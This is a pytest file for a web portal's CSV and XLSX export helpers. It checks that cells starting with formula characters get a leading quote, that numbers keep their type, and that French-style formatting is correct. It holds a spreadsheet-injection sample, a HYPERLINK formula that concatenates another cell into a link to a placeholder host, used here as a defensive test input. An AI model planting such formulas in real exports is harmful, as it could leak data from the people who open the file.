"""portal.core.tabular: every CSV and XLSX cell the portal writes is safe to open in a
spreadsheet (no formula from text), and numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from portal.core.tabular import FRENCH, append_row, csv_bytes, iter_csv, write_csv

FORMULA = '=HYPERLINK("http://x"&B2,"Bassin dijonnais")'


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


@pytest.mark.parametrize("text", [FORMULA, "+33 1 23", "-2+3", "@SUM(A1)", "\tx", "\rx",
                                  "=1+1"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert cells(write_csv([[text]])) == [["'" + text]]


def test_plain_text_and_numbers_are_written_as_they_are():
    row = ["Bassin dijonnais", "a=b", -12, Decimal("-3.50"), -0.5, 0, None, True]

    assert cells(write_csv([row])) == [
        ["Bassin dijonnais", "a=b", "-12", "-3.50", "-0.5", "0", "", "oui"]
    ]


def test_a_negative_number_given_as_text_is_still_text():
    assert cells(write_csv([["-12"]])) == [["'-12"]]


def test_the_plain_style_is_comma_lf_utf8_without_bom():
    text = write_csv([["a", datetime.date(2025, 3, 1)], ["é", Decimal("1.5")]])

    assert text == "a,2025-03-01\né,1.5\n"


def test_the_french_style_is_semicolon_decimal_comma_bom_and_crlf():
    data = csv_bytes([["libellé", Decimal("1234.50"), datetime.date(2025, 3, 1), "=1"]], FRENCH)

    assert data == "\ufefflibellé;1234,50;01/03/2025;'=1\r\n".encode()


def test_lines_can_be_streamed_one_by_one():
    lines = list(iter_csv([["a", 1], ["b", 2]], FRENCH))

    assert lines == ["\ufeff", "a;1\r\n", "b;2\r\n"]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_text_is_never_a_formula(write_only):
    workbook = openpyxl.Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Feuille") if write_only else workbook.active
    append_row(sheet, [FORMULA, "-x", "texte", -5, Decimal("2.5")])
    buffer = io.BytesIO()
    workbook.save(buffer)

    row = next(openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).worksheets[-1].iter_rows())
    assert [(c.value, c.data_type) for c in row] == [
        (FORMULA, "s"), ("-x", "s"), ("texte", "s"), (-5, "n"), (2.5, "n"),
    ]
    assert [c.quotePrefix for c in row[:3]] == [True, True, False]


@pytest.mark.parametrize("text", ["deux\nlignes", "retour\rchariot"])
def test_a_line_break_inside_a_cell_keeps_the_cell_whole(text):
    assert cells(write_csv([[text, "suite"]])) == [[text, "suite"]]
